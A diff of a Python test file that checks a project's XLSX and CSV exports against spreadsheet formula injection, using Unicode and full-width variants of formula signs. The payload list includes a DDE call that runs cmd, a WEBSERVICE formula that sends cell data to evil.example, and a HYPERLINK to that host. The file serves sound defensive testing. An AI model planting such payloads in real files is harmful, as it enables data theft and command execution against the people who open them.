@@ -5,18 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import re
-from typing import Any
+import unicodedata
+from zipfile import ZipFile
 
-import msgspec
 import openpyxl
 import pytest
 
 from facilitate.papers import make
 from facilitate.papers.catalogue import SHEETS
-from facilitate.papers.spreadsheet import FORMULA
-from facilitate.reports.record import Record
-from tests.papers.sample import courtyard
-from tests.papers.world import LINKS
+from tests.papers.wicked import links, wicked
 
 BEGINNINGS = (
     "=1+1",
@@ -25,49 +22,65 @@ BEGINNINGS = (
     "-2+3",
     "\t=1+1",
     "\r=1+1",
+    "\n=1+1",
     "  =1+1",
+    "　=1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
     "＝1+1",
-    '=HYPERLINK("x")',
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    '=HYPERLINK("http://evil.example","x")',
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    "{=1+1}",
+    "http://evil.example/",
+    "mailto:a@evil.example",
+    "00123",
+    "1E5",
+    "2026-11-21",
+    '",=1+1,"',
 )
+SIGNS = "=+-@＝＋－＠"
 
 
-def wicked(beginning: str) -> Record:
-    """Courtyard 123 in which every name and every text begins like that, and so do the names in its lists."""
-    data = msgspec.to_builtins(courtyard())
-    for row in data["people"]:
-        row["name"] = beginning + row["name"]
-    for table in ("items", "comments", "answers", "offers", "actions"):
-        for row in data[table]:
-            row["text" if "text" in row else "what"] = beginning + row["text" if "text" in row else "what"]
-    for words in _words(data):
-        words["zh"], words["en"] = beginning + words["zh"], beginning + words["en"]
-    return msgspec.convert(data, Record)
+def runs(cell: str) -> bool:
+    """Whether a spreadsheet that trims its cells would take it for a formula."""
+    seen = next((sign for sign in cell if unicodedata.category(sign) not in ("Zs", "Zl", "Zp", "Cc", "Cf")), "")
+    started = cell.startswith(("\t", "\r", "\n"))
+    return started or (seen != "" and seen in SIGNS and not re.fullmatch(r"-?\d+(\.\d+)?", cell))
 
 
-def _words(data: Any) -> list[dict[str, str]]:
-    if isinstance(data, dict):
-        here = [data] if set(data) == {"zh", "en"} and any(data.values()) else []
-        return here + [each for value in data.values() for each in _words(value)]
-    return [each for value in data for each in _words(value)] if isinstance(data, (list, tuple)) else []
+def test_what_counts_as_a_formula_here_is_seen():
+    assert [runs(cell) for cell in ("=1", " \u200b@x", "\tx", "-3", "'=1", "", "王阿姨")] == [True] * 3 + [False] * 4
 
 
 @pytest.mark.parametrize("beginning", BEGINNINGS)
 @pytest.mark.parametrize("name", list(SHEETS))
 def test_in_a_workbook_every_text_stays_a_text(name, beginning):
-    page = openpyxl.load_workbook(io.BytesIO(make(name, "xlsx", wicked(beginning), "zh", LINKS).data)).active
+    data = make(name, "xlsx", wicked(beginning), "zh", links(beginning)).data
+    page = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
     cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
+    parts = {part: text for part, text in _parts(data).items() if "charts/" not in part}
 
-    assert {cell.data_type for cell in cells} <= {"s", "n"}
-    assert any(beginning.strip() in str(cell.value) for cell in cells)
+    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
+    assert any(beginning.strip() in str(cell.value).replace("_x000D_", "\r") for cell in cells)
     assert all(cell.hyperlink is None for cell in cells)
+    assert not [part for part, text in parts.items() if "<f>" in text or "externalLink" in part or "TargetMode" in text]
+
+
+def _parts(data: bytes) -> dict[str, str]:
+    bag = ZipFile(io.BytesIO(data))
+    return {name: bag.read(name).decode() for name in bag.namelist()}
 
 
 @pytest.mark.parametrize("beginning", BEGINNINGS)
 @pytest.mark.parametrize("name", list(SHEETS))
 def test_in_a_csv_no_cell_begins_like_a_formula(name, beginning):
-    text = make(name, "csv", wicked(beginning), "zh", LINKS).data.decode("utf-8-sig")
+    text = make(name, "csv", wicked(beginning), "zh", links(beginning)).data.decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
-    runs = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
 
-    assert runs == []
-    assert any(cell.startswith("'" + beginning) for cell in cells)
+    assert [cell for cell in cells if runs(cell)] == []
+    assert any(beginning in cell for cell in cells)
